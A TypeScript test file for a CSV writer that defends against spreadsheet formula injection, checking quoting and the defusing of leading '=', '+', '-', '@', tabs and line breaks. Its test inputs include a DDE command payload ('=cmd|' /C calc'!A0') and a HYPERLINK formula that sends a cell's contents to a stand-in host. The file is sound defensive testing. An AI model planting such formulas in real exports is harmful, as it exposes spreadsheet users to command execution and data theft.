/**
 * The one CSV writer (src/server/files/csv.ts): what a data line holds reaches a spreadsheet as text,
 * whatever it splits on, and our numbers stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { csvField, csvHeader, csvLine } from '../../src/server/files/csv';

/** The parts a spreadsheet may split a line into, ignoring quotes: on `,`, `;`, tabs and line breaks. */
const partsOf = (line: string) => line.replace(/\r\n$/, '').split(/[,;\t\r\n]/);
/** What a spreadsheet reads as a formula: a part that starts (after spaces) with one of these. */
const looksLikeFormula = (part: string) => /^"?[ ]*[=+\-@\t\r]/.test(part);

describe('a CSV line', () => {
  it('quotes every text field and leaves our own numbers bare', () => {
    expect(csvLine(['Ada Lovelace', 'ada@example.test', { decimal: '-34.00' }, -3400, 'USD'])).toBe(
      '"Ada Lovelace","ada@example.test",-34.00,-3400,"USD"\r\n',
    );
    // Text that looks like a number is still text: only numbers this code computed are bare.
    expect(csvField('1234')).toBe('"1234"');
    expect(csvField('')).toBe('""');
    expect(csvField({ decimal: '12;=1' })).toBe(`"12;'=1"`);
  });

  it('doubles quotes inside a field', () => {
    expect(csvField('Say "hi", then go')).toBe('"Say ""hi"", then go"');
  });

  it('defuses a formula at the start of the field and of every part a spreadsheet may split off', () => {
    const name = "Emeka;=1+1;=cmd|' /C calc'!A0;";
    expect(csvField(name)).toBe(`"Emeka;'=1+1;'=cmd|' /C calc'!A0;"`);
    for (const [text, safe] of [
      ['=SUM(A1:A9)', `"'=SUM(A1:A9)"`],
      ['+1', `"'+1"`],
      ['-1', `"'-1"`],
      ['@SUM(1)', `"'@SUM(1)"`],
      ['\t=1', `"'\t'=1"`],
      ['\r=1', `"'\r'=1"`],
      ['a,=1', `"a,'=1"`],
      ['a, =1', `"a,' =1"`],
      ['a\t+1', `"a\t'+1"`],
      ['a\n@x', `"a\n'@x"`],
    ] as const)
      expect(csvField(text), JSON.stringify(text)).toBe(safe);
    // Harmless marks inside a part stay as they are.
    expect(csvField('Jean-Luc O@Brien 1+1=2')).toBe('"Jean-Luc O@Brien 1+1=2"');
  });

  it('leaves no part that a spreadsheet splitting on any separator would run', () => {
    const nasty = [
      "Emeka;=1+1;=cmd|' /C calc'!A0;",
      '=HYPERLINK("http://example.test?x="&A1,"click")',
      'x;+1;-1;@a;\t=2',
      'ok,  =1',
    ];
    const line = csvLine([...nasty, 42, { decimal: '-1.50' }]);
    const parts = partsOf(line);
    const formulas = parts.filter(looksLikeFormula);
    // The only parts that start with "-" are our own negative amount.
    expect(formulas).toEqual(['-1.50']);
  });

  it('writes the header as the plain column names', () => {
    expect(csvHeader(['tutor_id', 'name', 'payable'])).toBe('tutor_id,name,payable\r\n');
  });
});
